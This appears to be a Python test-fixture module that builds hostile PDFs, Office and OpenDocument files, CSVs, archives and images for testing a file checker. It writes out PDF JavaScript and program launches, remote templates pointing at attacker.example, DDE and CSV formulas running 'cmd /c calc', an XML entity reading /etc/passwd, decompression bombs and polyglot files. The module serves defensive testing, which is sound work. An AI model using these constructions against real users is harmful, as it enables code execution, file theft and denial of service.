"""Builds files that attack whoever opens them: active content, bombs, files of two kinds."""

import struct
import zlib
from collections.abc import Callable
from functools import cache
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.documents import files

EXTERNAL = 'TargetMode="External"'
OFFICE_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# PDF


def pdf_with(change: Callable, **options) -> bytes:
    """A PDF after `change` of it by pikepdf, saved with these options."""
    file = BytesIO()
    with pikepdf.open(BytesIO(files.pdf("A statement"))) as document:
        change(document)
        document.save(file, **options)
    return file.getvalue()


def action(kind: str, **entries) -> pikepdf.Dictionary:
    entries = {f"/{name}": value for name, value in entries.items()}
    return pikepdf.Dictionary({"/S": pikepdf.Name(f"/{kind}"), **entries})


def script(document=None) -> pikepdf.Dictionary:
    return action("JavaScript", JS=pikepdf.String("app.alert(1)"))


def opening(document):
    document.Root.OpenAction = script()


def as_indirect_objects(document):
    """A script whose action, and the type of the action, are objects of their own."""
    name = document.make_indirect(pikepdf.Name.JavaScript)
    parts = pikepdf.Dictionary({"/S": name})
    document.Root.OpenAction = document.make_indirect(parts)


def on_event_of_page(document):
    document.pages[0].obj.AA = pikepdf.Dictionary(O=script())


def in_name_tree(document):
    document.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), script()]))
    )


def annotation(kind: str, **entries) -> Callable:
    def change(document):
        note = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(f"/{kind}"), Rect=[0, 0, 9, 9], **entries
        )
        document.pages[0].obj.Annots = document.make_indirect(pikepdf.Array([document.make_indirect(note)]))

    return change


def in_form_field(document):
    field = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Widget,
        FT=pikepdf.Name.Tx,
        T=pikepdf.String("a"),
        Rect=[0, 0, 9, 9],
        AA=pikepdf.Dictionary(K=script()),
    )
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([document.make_indirect(field)]))


def with_attachment(document):
    document.attachments["run.exe"] = b"MZ"


def with_xfa(document):
    form = document.make_stream(b"<xdp/>")
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=form)


def opens(kind: str, **entries) -> Callable:
    def change(document):
        document.Root.OpenAction = action(kind, **entries)

    return change


SCRIPT = b"/S %s /JS (app.alert(1))"


def with_update(opening: bytes = SCRIPT % b"/JavaScript") -> bytes:
    """A PDF whose incremental update adds an action when it is opened, a script unless told otherwise."""
    before = files.pdf("A statement")
    with pikepdf.open(BytesIO(before)) as document:
        root, size = document.Root.objgen[0], int(document.trailer.Size)
        pages = document.Root.Pages.objgen[0]
    offset = len(before)
    update = b"%d 0 obj\n<< /Type /Catalog /Pages %d 0 R /OpenAction << %s >> >>\nendobj\n"
    update %= (root, pages, opening)
    table = (
        b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    )
    previous = int(before.rpartition(b"startxref")[2].split()[0])
    return before + update + table % (root, offset, size, root, previous, offset + len(update))


OBJECT_STREAMS = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
EMPTY_PASSWORD = {"encryption": pikepdf.Encryption(user="", owner="the owner's", R=6)}
PASSWORD = {"encryption": pikepdf.Encryption(user="secret", owner="the owner's", R=6, metadata=False)}

ACTIVE_PDF = {
    "a script that opens": (lambda: pdf_with(opening), "1 script"),
    "a script of a page": (lambda: pdf_with(on_event_of_page), "1 script"),
    "a script of the document": (lambda: pdf_with(in_name_tree), "1 script"),
    "a script of a form field": (lambda: pdf_with(in_form_field), "1 script"),
    "a script in parts": (lambda: pdf_with(as_indirect_objects), "script"),
    "a script in an object stream": (lambda: pdf_with(opening, **OBJECT_STREAMS), "1 script"),
    "an encrypted script": (lambda: pdf_with(opening, **EMPTY_PASSWORD, **OBJECT_STREAMS), "1 script"),
    "a script of a PDF with a password": (lambda: pdf_with(opening, **PASSWORD), "1 script"),
    "a script of an update": (with_update, "1 script"),
    "a script under another spelling": (lambda: with_update(SCRIPT % b"/#4A#61vaScri#70t"), "1 script"),
    "a script of a damaged PDF": (lambda: b"%PDF-1.7\n" + with_update()[1_000:-60], "1 script"),
    "a script as an address": (
        lambda: pdf_with(annotation("Link", A=action("URI", URI=pikepdf.String(" JavaScript:app.alert(1)")))),
        "1 script",
    ),
    "a program": (lambda: pdf_with(opens("Launch", F=pikepdf.String("cmd.exe"))), "starts a program"),
    "a form that is sent": (lambda: pdf_with(opens("SubmitForm")), "sends or loads data"),
    "data that is loaded": (lambda: pdf_with(opens("ImportData")), "sends or loads data"),
    "another file": (lambda: pdf_with(opens("GoToR", F=pikepdf.String("//a/b"))), "opens another file"),
    "a file within": (lambda: pdf_with(opens("GoToE")), "opens another file"),
    "a film": (lambda: pdf_with(annotation("RichMedia")), "film, sound or model"),
    "a sound": (lambda: pdf_with(annotation("Sound")), "film, sound or model"),
    "a rendition": (lambda: pdf_with(opens("Rendition")), "film, sound or model"),
    "an attachment": (lambda: pdf_with(with_attachment), "1 attached file"),
    "an XFA form": (lambda: pdf_with(with_xfa), "1 XFA form"),
}


@cache
def twice_packed_pdf() -> bytes:
    """A page whose content is packed twice: a kilobyte that unpacks to 300 MB."""
    packer = zlib.compressobj(9)
    once = b"".join([*(packer.compress(bytes(1024**2)) for _ in range(300)), packer.flush()])

    def change(document):
        stream = pikepdf.Stream(document, zlib.compress(once, 9))
        stream.Filter = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
        document.pages[0].obj.Contents = document.make_indirect(stream)

    return pdf_with(change, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


@cache
def object_stream_bomb() -> bytes:
    """A PDF with an object stream that unpacks to 900 MB, in a megabyte."""
    packer = zlib.compressobj(9)
    packed = b"".join(
        [packer.compress(b"99 0 "), *(packer.compress(b" " * 1024**2) for _ in range(900)), packer.flush()]
    )
    begin = b"%PDF-1.7\n"
    entries = b"/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d" % len(packed)
    stream = b"1 0 obj\n<< %s >>\nstream\n%s\nendstream\nendobj\n" % (entries, packed)
    catalog = b"2 0 obj\n<< /Type /Catalog /Pages 3 0 R >>\nendobj\n"
    catalog += b"3 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    rows = [(1, len(begin), 0), (1, len(begin) + len(stream), 0)]
    rows.append((1, len(begin) + len(stream) + catalog.index(b"3 0 obj"), 0))
    rows.append((2, 1, 0))
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    at = len(begin) + len(stream) + len(catalog)
    table += struct.pack(">BIB", 1, at, 0)
    entries = b"/Type /XRef /Size 100 /W [1 4 1] /Index [1 3 99 1 98 1] /Root 2 0 R /Length %d" % len(table)
    end = b"98 0 obj\n<< %s >>\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
    return begin + stream + catalog + end % (entries, table, at)


# Office


def rels(kind: str, target: str = "https://attacker.example/a.dotm", mode: str = EXTERNAL) -> str:
    return (
        f'<Relationships xmlns="{files.PACKAGE}/relationships">'
        f'<Relationship Id="r1" Type="{OFFICE_TYPE}/{kind}" Target="{target}" {mode}/></Relationships>'
    )


def word_with_part(name: str, content: str | bytes) -> bytes:
    return files.package({"word/document.xml": files.word_document("<w:p/>"), name: content})


def word_linking(kind: str, **options) -> bytes:
    return word_with_part("word/_rels/document.xml.rels", rels(kind, **options))


def open_document(content: str = "<a/>", **parts) -> bytes:
    file = BytesIO()
    with ZipFile(file, "w") as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        package.writestr("content.xml", content)
        for name, part in parts.items():
            package.writestr(name.replace("__", "/") + ".xml", part)
    return file.getvalue()


def odf_element(element: str) -> str:
    names = ("draw", "office", "script", "table", "text")
    urn = "urn:oasis:names:tc:opendocument:xmlns"
    declared = " ".join(f'xmlns:{name}="{urn}:{name.replace("draw", "drawing")}:1.0"' for name in names)
    return f'<a {declared} xmlns:xlink="http://www.w3.org/1999/xlink">{element}</a>'


PARTS = {"[Content_Types].xml": files.TYPES.encode(), "word/document.xml": b"<a/>"}
MACRO_TYPES = files.TYPES.replace("document.main+xml", "document.macroEnabled.main+xml")
TABLE_WITH_MACRO = files.package({"xl/workbook.xml": "<workbook/>", "xl/vbaProject.bin": b"macro"})
SIMPLE_DDE_FIELD = '<w:p><w:fldSimple w:instr=" dde c:\\\\cmd.exe"/></w:p>'
DDE_FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>'
    "<w:r><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"
)
DDE = '<externalLink xmlns="urn:x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'

ACTIVE_OFFICE = {
    "macros": (lambda: word_with_part("word/vbaProject.bin", b"macro"), "a.docx", "macros"),
    "macros of a damaged file": (
        lambda: word_with_part("word/vbaProject.bin", b"macro")[:-10], "a.docx", "macros",
    ),
    "a type with macros": (lambda: word_with_part("[Content_Types].xml", MACRO_TYPES), "a.docx", "macros"),
    "macros of a table in a text": (
        lambda: word_with_part("word/embeddings/a.xlsx", TABLE_WITH_MACRO), "a.docx", "macros",
    ),
    "old macros of a table": (
        lambda: files.package({"xl/workbook.xml": "<workbook/>", "xl/macrosheets/sheet1.xml": "<a/>"}),
        "a.xlsx",
        "macros",
    ),
    "a template from elsewhere": (
        lambda: word_linking("attachedTemplate"), "a.docx", "loaded from elsewhere",
    ),
    "a template of a server": (
        lambda: word_linking("attachedTemplate", target="file:///\\\\attacker.example\\a.dotm"),
        "a.docx",
        "loaded from elsewhere",
    ),
    "a frame from elsewhere": (lambda: word_linking("frame"), "a.docx", "loaded from elsewhere"),
    "an object from elsewhere": (lambda: word_linking("oleObject"), "a.docx", "loaded from elsewhere"),
    "a picture from elsewhere": (lambda: word_linking("image"), "a.docx", "loaded from elsewhere"),
    "an embedded object": (
        lambda: word_linking("oleObject", target="embeddings/oleObject1.bin", mode=""), "a.docx", "embedded",
    ),
    "a control": (lambda: word_with_part("word/activeX/activeX1.xml", "<a/>"), "a.docx", "control"),
    "a program in a text": (lambda: word_with_part("word/media/run.exe", b"MZ"), "a.docx", "1 program"),
    "a table that runs a program": (
        lambda: files.package({"xl/workbook.xml": "<workbook/>", "xl/externalLinks/externalLink1.xml": DDE}),
        "a.xlsx",
        "loaded from elsewhere",
    ),
    "a field that runs a program": (
        lambda: files.package({"word/document.xml": files.word_document(DDE_FIELD)}), "a.docx", "elsewhere",
    ),
    "a simple field that runs a program": (
        lambda: word_with_part("word/header1.xml", files.word_document(SIMPLE_DDE_FIELD)),
        "a.docx",
        "elsewhere",
    ),
    "macros of an OpenDocument": (
        lambda: open_document(Basic__Standard__Module1="<a/>"), "a.odt", "macros",
    ),
    "an event of an OpenDocument": (
        lambda: open_document(odf_element("<script:event-listener/>")), "a.odt", "macros",
    ),
    "a section of an OpenDocument from elsewhere": (
        lambda: open_document(odf_element('<text:section-source xlink:href="//attacker.example/a"/>')),
        "a.odt",
        "loaded from elsewhere",
    ),
    "a formula": (lambda: b"name;year\nADMM;=1+1\n", "a.csv", "1 formula"),
    "a formula that runs a program": (lambda: b"name,year\n\"+cmd|' /C calc'!A0\",2\n", "a.csv", "1 formula"),
}  # fmt: skip


def zip_of(entries: dict[str, bytes], method=ZIP_DEFLATED) -> bytes:
    file = BytesIO()
    with ZipFile(file, "w", method) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return file.getvalue()


@cache
def ratio_bomb() -> bytes:
    return word_with_part("word/media/image1.png", bytes(400 * 1024**2))


@cache
def overlapping_bomb() -> bytes:
    """An archive whose second entry is written where the first is."""
    content = bytearray(word_with_part("word/media/image1.png", bytes(50_000)))
    first = content.index(b"PK\1\2")
    second = content.index(b"PK\1\2", first + 4)
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    return bytes(content)


@cache
def crowded() -> bytes:
    return zip_of(
        PARTS | {f"word/media/{number}": b"" for number in range(10_001)},
        ZIP_STORED,
    )


@cache
def long_list() -> bytes:
    """A text whose list of parts names them 600,000 times, in 39 MB."""
    content = zip_of(PARTS)
    begin, end = content.index(b"PK\1\2"), content.rindex(b"PK\5\6")
    entries = content[begin:end] * 300_000
    record = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 0xFFFE, 0xFFFE, len(entries), begin, 0)
    return content[:begin] + entries + record


def nested() -> bytes:
    inner = zip_of({"c.zip": zip_of({"d": bytes(1024**2)})})
    return word_with_part("word/embeddings/a.docx", inner)


def billion_laughs() -> bytes:
    return files.laughs()


def laughs_in_utf16() -> bytes:
    declared = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    return word_with_part("word/settings.xml", declared.encode("utf-16"))


HARMFUL = {
    "a PDF that unpacks to 700 MB": (files.pdf_bomb, "a.pdf", "unpacks to far more"),
    "a PDF that is packed twice": (twice_packed_pdf, "a.pdf", "unpacks to far more"),
    "a PDF whose objects unpack to 900 MB": (object_stream_bomb, "a.pdf", "unpacks to far more"),
    "a text that unpacks to 400 MB": (ratio_bomb, "a.docx", "unpacks to far more"),
    "a text whose parts overlap": (overlapping_bomb, "a.docx", "unpacks to far more"),
    "a text of too many parts": (crowded, "a.docx", "unpacks to far more"),
    "archives in archives": (nested, "a.docx", "archives within archives"),
    "entities of entities": (billion_laughs, "a.docx", "entities of XML"),
    "an entity in another encoding": (laughs_in_utf16, "a.docx", "entities of XML"),
    "an entity of a file": (
        lambda: files.word_with_local_file_entity("/etc/passwd"), "a.docx", "entities of XML",
    ),
}  # fmt: skip


# Files of two kinds

HTML = b"<!DOCTYPE html><script>alert(1)</script>"
TWO_KINDS = {
    "a PDF that begins as a page": (lambda: HTML + files.pdf("A"), "a.pdf"),
    "a PDF with a page in its head": (lambda: b"%PDF-1.4\n%" + HTML + b"\n" + files.pdf("A")[9:], "a.pdf"),
    "a PDF with a page at its end": (lambda: files.pdf("A") + HTML, "a.pdf"),
    "a PDF with an archive at its end": (lambda: files.pdf("A") + zip_of({"a.js": b"1"}), "a.pdf"),
    "a PDF with a program at its end": (lambda: files.pdf("A") + b"MZ" + b"\x90\1" * 2_000, "a.pdf"),
    "a PDF far before its end": (lambda: files.pdf("A") + b"\1" * (1024**2), "a.pdf"),
    "an archive within a PDF": (
        lambda: files.pdf("A").rpartition(b"%%EOF")[0] + zip_of({"a.js": b"1"}) + b"\n%%EOF\n", "a.pdf",
    ),
    "a text that is a PDF": (
        lambda: zip_of({"a": files.pdf("A"), **PARTS}, ZIP_STORED), "a.docx",
    ),
    "a text behind another archive": (lambda: zip_of({"a.js": b"1"}) + files.word("A"), "a.docx"),
    "a text with a page at its end": (lambda: files.word("A") + HTML, "a.docx"),
    "a text with a program at its end": (lambda: files.word("A") + b"MZ" + b"\x90\1" * 2_000, "a.docx"),
    "values with an archive at their end": (
        lambda: b"name;year\n" * 9_000 + zip_of({"a.js": b"1"}), "a.csv",
    ),
    "an archive that is no text": (lambda: zip_of({"word/document.xml": b"<a/>"}), "a.docx"),
    "an old Office file": (lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(4_000), "a.docx"),
}  # fmt: skip

# What producers do, and readers put up with.
HARMLESS = {
    "a PDF with white space before it": (lambda: b"\r\n" + files.pdf("A"), "a.pdf"),
    "a PDF with zeros after it": (lambda: files.pdf("A") + bytes(4_000), "a.pdf"),
    "a PDF with some bytes after it": (lambda: files.pdf("A") + b"\n\x1a signature\n", "a.pdf"),
    "a PDF that was updated": (lambda: with_update(b"/S /Named /N /FirstPage"), "a.pdf"),
    "a PDF that may not be printed": (lambda: pdf_with(lambda document: None, **EMPTY_PASSWORD), "a.pdf"),
    "a PDF with links": (lambda: files.pdf_with_link("A"), "a.pdf"),
    "a PDF with a form": (lambda: files.form("A"), "a.pdf"),
    "a scan": (lambda: files.scan(pages=2), "a.pdf"),
    "a text with a link": (lambda: word_linking("hyperlink"), "a.docx"),
    "a text made from a template": (
        lambda: word_linking("attachedTemplate", target="file:///C:\\Users\\name\\Letter.dotx"), "a.docx",
    ),
    "a text with fields": (
        lambda: word_with_part(
            "word/document.xml", files.word_document(DDE_FIELD.replace(" DD", " PAGE D"))
        ),
        "a.docx",
    ),
    "slides with a picture that was lost": (lambda: word_linking("image", target="NULL"), "a.docx"),
    "a text with the table of a chart": (
        lambda: word_with_part("word/embeddings/a.xlsx", files.spreadsheet()), "a.docx",
    ),
    "a text with a picture that packs well": (
        lambda: word_with_part("word/media/a.bmp", bytes(30 * 1024**2)), "a.docx",
    ),
    "an OpenDocument with a chart": (
        lambda: open_document(odf_element('<draw:object xlink:href="./Object 1"/>')), "a.odt",
    ),
    "a table of values": (
        lambda: b"name;phone;change;note\nADMM;+62 21 726 2991;-5;- see @asean\nA=B;+3;-2,5;(a)\n", "a.csv",
    ),
}  # fmt: skip


# Images


def png_chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_of_size(width: int, height: int) -> bytes:
    """A PNG that says to be of this size, with a first line of it."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    content = zlib.compress(bytes(3 * width + 1), 9)
    chunks = png_chunk(b"IHDR", header) + png_chunk(b"IDAT", content) + png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


@cache
def large_png() -> bytes:
    """A picture of 200 megapixels, all of it there."""
    return image("PNG", size=(20_000, 10_000), mode="1")


def image(kind: str, *, size=(40, 30), mode: str = "RGB", **options) -> bytes:
    file = BytesIO()
    Image.new(mode, size).save(file, kind, **options)
    return file.getvalue()


@cache
def film(kind: str, frames: int = 2_000) -> bytes:
    pictures = [Image.new("RGB", (4, 4), (number % 256, number // 256, 0)) for number in range(frames)]
    file = BytesIO()
    pictures[0].save(file, kind, save_all=True, append_images=pictures[1:], duration=20)
    return file.getvalue()


def telephone_picture() -> bytes:
    """A JPEG with EXIF and a smaller picture of itself (MPO)."""
    tags = Image.Exif()
    tags[0x0110] = "A telephone"
    file = BytesIO()
    pictures = [Image.new("RGB", size) for size in ((40, 30), (20, 15))]
    pictures[0].save(file, "MPO", save_all=True, append_images=pictures[1:], exif=tags)
    return file.getvalue()


def png_with_text() -> bytes:
    """A PNG with a text of 60 kB that unpacks to 60 MB."""
    words = PngInfo()
    words.add_itxt("Comment", "a" * 60_000_000, zip=True)
    return image("PNG", pnginfo=words)


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HARMFUL_IMAGES = {
    "200 megapixels": (large_png, "a.png", "too many pixels"),
    "a size of 4 gigapixels": (lambda: png_of_size(65_000, 65_000), "a.png", "too many pixels"),
    "a film": (lambda: film("WEBP"), "a.webp", "too many pictures"),
    "a film as PNG": (lambda: film("PNG"), "a.png", "too many pictures"),
    "a text that unpacks": (png_with_text, "a.png", "more text"),
    "a drawing": (lambda: SVG, "a.svg", "extension"),
    "a drawing under another name": (lambda: SVG, "a.png", "not an image"),
    "a page": (lambda: HTML, "a.jpg", "not an image"),
    "a picture of another kind": (lambda: image("PNG"), "a.jpg", "another kind"),
    "a picture of a kind that isn't accepted": (lambda: image("TIFF"), "a.png", "not an image"),
    "half a picture": (lambda: image("PNG", size=(400, 400))[:90], "a.png", "not an image"),
    "a picture that is a PDF": (
        lambda: image("JPEG", comment=b"%PDF-1.4"), "a.jpg", "a document at once",
    ),
}  # fmt: skip
IMAGES = {
    f"{kind} {mode}": (lambda kind=kind, mode=mode: image(kind, mode=mode), name)
    for kind, name, modes in (
        ("PNG", "a.png", ("RGB", "RGBA", "P", "1", "I;16")),
        ("JPEG", "a.jpeg", ("RGB", "L", "CMYK")),
        ("WEBP", "a.webp", ("RGB", "RGBA")),
        ("AVIF", "a.avif", ("RGB", "RGBA")),
    )
    for mode in modes
} | {"of a telephone": (telephone_picture, "a.jpg")}
